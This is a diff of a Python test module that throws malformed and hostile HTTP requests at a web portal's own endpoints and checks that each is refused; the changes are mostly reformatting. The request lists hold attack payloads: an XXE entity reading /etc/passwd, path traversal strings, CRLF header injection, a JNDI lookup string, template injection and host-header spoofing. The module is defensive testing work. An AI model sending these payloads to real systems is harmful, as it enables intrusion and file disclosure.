@@ -1,4 +1,4 @@
-"""Requests that no page of ours makes: scanners, double clicks, other sites, odd bodies and paths."""
+"""Requests that no page of ours makes: of scanners, of other sites, twice, odd ones."""
 
 from __future__ import annotations
 
@@ -53,7 +53,9 @@ def double_clicks(rng: random.Random, times: int) -> Iterator[Attack]:
                 else:
                     for _ in range(4):
                         _send(often, purpose)
-                wanted, found = ({n: len(r) for n, r in g.scene.everything().items()} for g in (once, often))
+                wanted, found = (
+                    {n: len(r) for n, r in g.scene.everything().items()} for g in (once, often)
+                )
                 if found != wanted:
                     raise GotThrough(f"{found} in place of {wanted}")
 
@@ -101,6 +103,7 @@ def other_sites(rng: random.Random, times: int) -> Iterator[Attack]:
 def _bodies(rng: random.Random) -> list[tuple[str, bytes, dict[str, str]]]:
     form = {"content-type": "application/x-www-form-urlencoded"}
     good = b"goal_1=Read+a+dashboard&rating_1=2"
+    parts = "multipart/form-data; boundary=x"
     part = b'--x\r\nContent-Disposition: form-data; name="goal_1"\r\n\r\n\\ud800\r\n--x--\r\n'
     large = b"goal_1=" + b"x" * LARGEST_BODY
     charsets = ("punycode", "idna", "unicode_escape", "utf-7", "utf-16", "zlib", "a\x00b")
@@ -111,27 +114,43 @@ def _bodies(rng: random.Random) -> list[tuple[str, bytes, dict[str, str]]]:
         ("a length below nothing", good, {**form, "content-length": "-1"}),
         ("a length that is no number", good, {**form, "content-length": "ten"}),
         ("a length of many digits", good, {**form, "content-length": "9" * 5000}),
-        ("a length by two ways", good, {**form, "transfer-encoding": "chunked", "content-length": "5"}),
+        (
+            "a length by two ways",
+            good,
+            {**form, "transfer-encoding": "chunked", "content-length": "5"},
+        ),
         ("many fields", b"&".join(b"f%d=1" % n for n in range(5000)), form),
         ("many fields without names", b"&" * 60_000 + b"=" * 5000, form),
         ("packed", gzip.compress(good), {**form, "content-encoding": "gzip"}),
-        ("packed very tightly", gzip.compress(b"a" * 10_000_000), {**form, "content-encoding": "gzip"}),
+        (
+            "packed very tightly",
+            gzip.compress(b"a" * 10_000_000),
+            {**form, "content-encoding": "gzip"},
+        ),
         ("a method of its own", b"_method=DELETE", form),
         ("json", b'{"goal_1": "x", "rating_1": "2"}', {"content-type": "application/json"}),
-        ("xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', {"content-type": "text/xml"}),
+        (
+            "xml",
+            b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+            {"content-type": "text/xml"},
+        ),
         ("plain text", good, {"content-type": "text/plain"}),
         ("no type", good, {"content-type": ""}),
-        ("parts without end", part[:-6], {"content-type": "multipart/form-data; boundary=x"}),
-        ("deep parts", (b"--x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n") * 1000, {"content-type": "multipart/form-data; boundary=x"}),
+        ("parts without end", part[:-6], {"content-type": parts}),
+        (
+            "deep parts",
+            (b"--x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n") * 1000,
+            {"content-type": parts},
+        ),
         *(
-            (f"parts in {charset!r}", part, {"content-type": f"multipart/form-data; boundary=x; charset={charset}"})
+            (f"parts in {charset!r}", part, {"content-type": f"{parts}; charset={charset}"})
             for charset in charsets
         ),
         ("bytes that are no text", b"goal_1=%ff%fe%00&rating_1=%zz\xff\x80", form),
         ("half a character", b"goal_1=%ed%a0%80&rating_1=9", form),
         ("anything", rng.randbytes(rng.randrange(1, 5000)), form),
-        ("anything in parts", rng.randbytes(2000), {"content-type": "multipart/form-data; boundary=x"}),
-    ]  # fmt: skip
+        ("anything in parts", rng.randbytes(2000), {"content-type": parts}),
+    ]
 
 
 def bodies(rng: random.Random, times: int) -> Iterator[Attack]:
@@ -142,11 +161,20 @@ def bodies(rng: random.Random, times: int) -> Iterator[Attack]:
             for name, body, headers in _bodies(rng):
                 made += 1
 
-                def attempt(body: bytes = body, headers: dict[str, str] = headers) -> None:
-                    sent: dict[str, Any] = {"content": body, "headers": {k: v.encode() for k, v in headers.items()}}
+                wanted = (413,) if name.startswith("too large") else (400, 413, 415, 422)
+
+                def attempt(
+                    body: bytes = body,
+                    headers: dict[str, str] = headers,
+                    wanted: tuple[int, ...] = wanted,
+                ) -> None:
+                    sent: dict[str, Any] = {
+                        "content": body,
+                        "headers": {k: v.encode() for k, v in headers.items()},
+                    }
                     with here.unchanged():
                         answer = here.ask("POST", here.url(Purpose.GOALS), **sent)
-                        here.refused(answer, 400, 413, 415, 422)
+                        here.refused(answer, *wanted)
 
                 yield Attack(name, attempt)
 
@@ -157,24 +185,60 @@ def paths(rng: random.Random, times: int) -> Iterator[Attack]:
         right = here.url(Purpose.GOALS)
         token = right.rpartition("/")[2]
         odd = [
-            "/static/..%2f..%2fapp.py", "/static/%2e%2e/app.py", "/static/....//app.py",
-            "/static/..\\app.py", "/static/%00", "/static/portal.css%00.html", "/static/", "/static",
-            "/static//etc/passwd", "/static/" + "a" * 5000, "/..%2f..%2fetc%2fpasswd",
-            f"//{EVIL}/{token}", f"//{EVIL}/%2f..", f"/goals//{EVIL}", f"/goals/{token}/",
-            f"/goals/{token}/..", f"/{token}/goals", f"/{token}", f"/GOALS/{token}",
-            f"/goals/{token}%0d%0aSet-Cookie:%20a=b", f"/goals;a=b/{token}",
-            "/goals/" + "a" * 30_000, "/%ff%fe/%ff", "/goals/%E2%80%AE", "/.git/config", "/.env",
-            "/docs", "/openapi.json", "/redoc", "/metrics", "/admin", "/wp-login.php",
-            "/goals/${jndi:ldap://evil}", "/goals/{{7*7}}", "/{purpose}/{token}", "/healthz/",
-        ]  # fmt: skip
+            "/static/..%2f..%2fapp.py",
+            "/static/%2e%2e/app.py",
+            "/static/....//app.py",
+            "/static/..\\app.py",
+            "/static/%00",
+            "/static/portal.css%00.html",
+            "/static/",
+            "/static",
+            "/static//etc/passwd",
+            "/static/" + "a" * 5000,
+            "/..%2f..%2fetc%2fpasswd",
+            f"//{EVIL}/{token}",
+            f"//{EVIL}/%2f..",
+            f"/goals//{EVIL}",
+            f"/goals/{token}/",
+            f"/goals/{token}/..",
+            f"/{token}/goals",
+            f"/{token}",
+            f"/GOALS/{token}",
+            f"/goals/{token}%0d%0aSet-Cookie:%20a=b",
+            f"/goals;a=b/{token}",
+            "/goals/" + "a" * 30_000,
+            "/%ff%fe/%ff",
+            "/goals/%E2%80%AE",
+            "/.git/config",
+            "/.env",
+            "/docs",
+            "/openapi.json",
+            "/redoc",
+            "/metrics",
+            "/admin",
+            "/wp-login.php",
+            "/goals/${jndi:ldap://evil}",
+            "/goals/{{7*7}}",
+            "/{purpose}/{token}",
+            "/healthz/",
+        ]
         hosts = [
-            {"host": EVIL}, {"x-forwarded-host": EVIL}, {"x-forwarded-proto": "http"},
-            {"forwarded": f"host={EVIL}"}, {"x-original-url": "/readyz"}, {"host": "a b"},
-            {"host": f"mentoring.example.com@{EVIL}"}, {"x-rewrite-url": "/readyz"},
-        ]  # fmt: skip
+            {"host": EVIL},
+            {"x-forwarded-host": EVIL},
+            {"x-forwarded-proto": "http"},
+            {"forwarded": f"host={EVIL}"},
+            {"x-original-url": "/readyz"},
+            {"host": "a b"},
+            {"host": f"mentoring.example.com@{EVIL}"},
+            {"x-rewrite-url": "/readyz"},
+        ]
         every: list[tuple[str, str, dict[str, str], tuple[int, ...]]] = [
             *((method, path, {}, (404, 405)) for path in odd for method in ("GET", "POST")),
-            *(("GET", path, host, (200, 404)) for host in hosts for path in (right, right + "/", "/")),
+            *(
+                ("GET", path, host, (200, 404))
+                for host in hosts
+                for path in (right, right + "/", "/")
+            ),
             *(
                 ("GET", right, {name: "DELETE"}, (200,))
                 for name in ("x-http-method-override", "x-http-method", "x-method-override")
@@ -220,7 +284,11 @@ def _many_wrong_links() -> None:
 
 
 def _made_up_addresses() -> None:
-    for proxies, told in ((0, "10.0.0.{}"), (1, "10.0.0.{}, 192.0.2.1"), (1, "10.0.0.{}, ::ffff:192.0.2.1")):
+    for proxies, told in (
+        (0, "10.0.0.{}"),
+        (1, "10.0.0.{}, 192.0.2.1"),
+        (1, "10.0.0.{}, ::ffff:192.0.2.1"),
+    ):
         with ground(Limits(wrong_links=20, proxies=proxies)) as here:
             asked = [
                 here.ask("GET", "/goals/x", headers={"x-forwarded-for": told.format(n)})
@@ -244,10 +312,14 @@ def _alike(rng: random.Random) -> None:
     with ground() as here:
         token = here.url(Purpose.GOALS).rpartition("/")[2]
         wrong = [
-            token[:-5] + "AAAAA", "x", "A" * 200, f"{token}A", token.swapcase(),
+            token[:-5] + "AAAAA",
+            "x",
+            "A" * 200,
+            f"{token}A",
+            token.swapcase(),
             here.url(Purpose.JOIN).rpartition("/")[2],
             here.url(Purpose.GOALS, person="p-nobody").rpartition("/")[2],
-        ]  # fmt: skip
+        ]
         answers = [here.ask("GET", f"/goals/{one}") for one in wrong]
         told = {(a.status_code, a.text, tuple(sorted(a.headers.items()))) for a in answers}
         if len(told) != 1:
